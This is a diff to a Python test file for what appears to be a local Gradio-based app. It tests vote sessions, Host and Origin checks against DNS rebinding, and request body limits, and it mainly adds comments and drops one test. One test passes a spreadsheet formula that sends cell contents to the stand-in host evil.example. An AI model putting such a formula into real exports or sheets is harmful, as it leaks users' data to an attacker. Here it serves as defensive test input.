@@ -15,7 +15,7 @@ import pytest
 from starlette.responses import PlainTextResponse
 from starlette.testclient import TestClient
 
-from app import page, viewer
+from app import page
 from app.catalog import Catalog
 from app.page import MAX_BODY_BYTES, MAX_LINE_LENGTH, ShortLines, guarded
 from app.votes import VoteStore
@@ -95,7 +95,7 @@ def test_a_vote_is_of_the_voter_who_began(served):
     served.send(event, values)  # fills the list of scores
     # The browser sends the name of its session, which may be anything.
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    for token in ("", "made up"):
+    for token in ("", "made up"):  # of no vote that has begun
         click("vote-left", token, None, formula)
     answer = click("vote-start", "scores", "", formula)
     (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
@@ -107,15 +107,19 @@ def test_a_vote_is_of_the_voter_who_began(served):
 @pytest.mark.parametrize(
     ("listens_on", "host", "origin", "status"),
     [
+        # Names of this machine; another name may be a stranger's that leads here (DNS rebinding).
         (LOCAL, "LOCALHOST:7860", "http://localhost:7860", 200),
         (LOCAL, "[::1]:7860", None, 200),
         (LOCAL, "evil.example", None, 403),
         (LOCAL, "localhost.evil.example", None, 403),
         (LOCAL, "192.168.0.5:7860", None, 403),
+        # A page of another origin asks.
         (LOCAL, "localhost:7860", EVIL, 403),
         (LOCAL, "localhost:7860", "http://localhost:7861", 403),
         (LOCAL, "localhost:7860", "null", 403),
+        # By --allow_host
         (LOCAL, "Lab.Example:443", "https://lab.example:443", 200),
+        # Open to the network: the host's own name and addresses
         ("0.0.0.0", f"{socket.gethostname()}:7860", None, 200),
         ("0.0.0.0", f"{LOCAL}:7860", "http://1.2.3.4:7860", 403),
         ("0.0.0.0", "192.168.0.5:7860", "http://192.168.0.5:7860", 200),
@@ -159,18 +163,13 @@ def test_what_a_browser_sent_is_short_and_inert_at_the_terminal():
     assert len(long_line) == MAX_LINE_LENGTH
 
 
-def test_what_is_no_host_name_can_not_be_allowed(tmp_path, capsys):
-    for name in ("http://lab.example", "lab.example:80", "*", ""):
-        assert viewer.main([str(tmp_path), "--allow_host", name]) == 2
-        assert f"--allow_host {name}" in capsys.readouterr().err
-
-
 def test_large_and_endless_bodies_are_refused(served):
     path = "/gradio_api/queue/join"
     body = {"fn_index": 1, "session_hash": "large", "data": ["x" * (MAX_BODY_BYTES - 100)]}
     assert served.ask(path, "POST", body).status == 200
     body["data"] *= 2
     assert served.ask(path, "POST", body).status == 413
+    # A body in pieces, which does not say its length
     connection = http.client.HTTPConnection(LOCAL, served.port, timeout=30)
     pieces = iter([b"x" * 2**16] * 20)
     connection.request("POST", path, pieces, encode_chunked=True)
